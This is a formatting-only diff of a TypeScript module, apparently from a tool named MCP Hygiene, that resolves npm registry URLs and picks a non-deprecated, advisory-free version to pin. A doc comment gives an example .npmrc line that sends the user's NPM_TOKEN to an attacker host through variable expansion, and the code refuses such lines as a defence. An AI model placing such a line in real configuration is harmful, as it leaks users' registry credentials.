@@ -17,7 +17,10 @@ export const NPM_PUBLIC_REGISTRY = 'https://registry.npmjs.org';
  * choose both the host and which of the user's environment variables go into the request
  * (`registry=https://attacker.example/${NPM_TOKEN}/`), so such a line is refused.
  */
-export function npmRegistryFor(name: string, context: { explicit?: string; setting?: string; configFile?: string; workspaceFolder?: string; home?: string; env?: Record<string, string | undefined> }): string {
+export function npmRegistryFor(
+  name: string,
+  context: { explicit?: string; setting?: string; configFile?: string; workspaceFolder?: string; home?: string; env?: Record<string, string | undefined> },
+): string {
   if (context.explicit) return trimSlash(context.explicit);
   const scope = name.startsWith('@') ? name.slice(0, name.indexOf('/')) : undefined;
   const files: string[] = [];
@@ -60,9 +63,16 @@ function readNpmrc(file: string, env: Record<string, string | undefined> | undef
     if (eq < 0) continue;
     const key = line.slice(0, eq).trim();
     if (key !== 'registry' && !/^@[^:]+:registry$/.test(key)) continue;
-    let value = line.slice(eq + 1).trim().replace(/^(["'])(.*)\1$/, '$2');
+    let value = line
+      .slice(eq + 1)
+      .trim()
+      .replace(/^(["'])(.*)\1$/, '$2');
     if (value.includes('${')) {
-      if (!env) throw new RegistryError(`${file} sets ${key} with an environment variable. MCP Hygiene expands variables only in your own ~/.npmrc, as a repository could send your tokens to its server: write the URL out, or enter the version by hand.`, 'unreachable');
+      if (!env)
+        throw new RegistryError(
+          `${file} sets ${key} with an environment variable. MCP Hygiene expands variables only in your own ~/.npmrc, as a repository could send your tokens to its server: write the URL out, or enter the version by hand.`,
+          'unreachable',
+        );
       value = value.replace(/\$\{([^}]+)\}/g, (_, name: string) => env[name] ?? '');
     }
     if (value) map.set(key, value);
@@ -83,15 +93,24 @@ export interface NpmPackument {
  * The version to pin `name` to: dist-tags.latest unless it is deprecated, a pre-release or
  * inside an advisory; else the newest version (not newer than latest) that is none of those.
  */
-export async function latestSafeNpmVersion(name: string, registry: string, advisories: AdvisorySource, http: HttpOptions): Promise<{ version: string; registry: string; note?: string }> {
+export async function latestSafeNpmVersion(
+  name: string,
+  registry: string,
+  advisories: AdvisorySource,
+  http: HttpOptions,
+): Promise<{ version: string; registry: string; note?: string }> {
   const url = `${registry}/${name.replace('/', '%2f')}`;
   const where = displayUrl(registry);
   // The abbreviated ("corgi") document is all we need and much smaller; registries that do
   // not know the media type answer with the full packument.
-  const body = await getJson(url, { ...http, headers: { accept: 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8' } }, {
-    notFound: `Package "${name}" was not found in ${where}.`,
-    registry: where,
-  });
+  const body = await getJson(
+    url,
+    { ...http, headers: { accept: 'application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8' } },
+    {
+      notFound: `Package "${name}" was not found in ${where}.`,
+      registry: where,
+    },
+  );
   const packument = body as NpmPackument;
   if (!packument || typeof packument !== 'object' || typeof packument.versions !== 'object' || packument.versions === null) {
     throw new RegistryError(`${where} answered for "${name}" without a versions list (not an npm registry?).`, 'malformed');
@@ -102,7 +121,11 @@ export async function latestSafeNpmVersion(name: string, registry: string, advis
   }));
   const latest = packument['dist-tags']?.latest;
   const choice = chooseSafeVersion('npm', candidates, advisories('npm', name), typeof latest === 'string' ? latest : undefined);
-  if (!choice) throw new RegistryError(`No version of "${name}" in ${where} is safe to pin: every release is a pre-release, deprecated or inside a known advisory.`, 'no-safe-version');
+  if (!choice)
+    throw new RegistryError(
+      `No version of "${name}" in ${where} is safe to pin: every release is a pre-release, deprecated or inside a known advisory.`,
+      'no-safe-version',
+    );
   const note = choice.skipped.length ? `skipped ${choice.skipped.map((s) => `${s.version} (${s.why})`).join(', ')}` : undefined;
   return { version: choice.version, registry: where, ...(note ? { note } : {}) };
 }
